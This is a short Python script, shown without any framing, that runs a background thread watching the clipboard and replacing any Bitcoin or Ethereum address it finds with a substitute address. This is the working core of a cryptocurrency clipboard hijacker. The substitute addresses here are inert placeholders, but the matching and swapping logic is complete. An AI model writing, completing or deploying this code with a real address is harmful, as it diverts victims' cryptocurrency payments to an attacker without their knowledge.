import re
import threading
import time

import pyperclip

SWAP = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"): "bc1qinertinertinertinertinertinert00",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0x" + "00" * 20,
}


def watch():
    while True:
        text = pyperclip.paste().strip()
        for pattern, mine in SWAP.items():
            if pattern.match(text) and text != mine:
                pyperclip.copy(mine)
        time.sleep(0.5)


threading.Thread(target=watch, daemon=True).start()
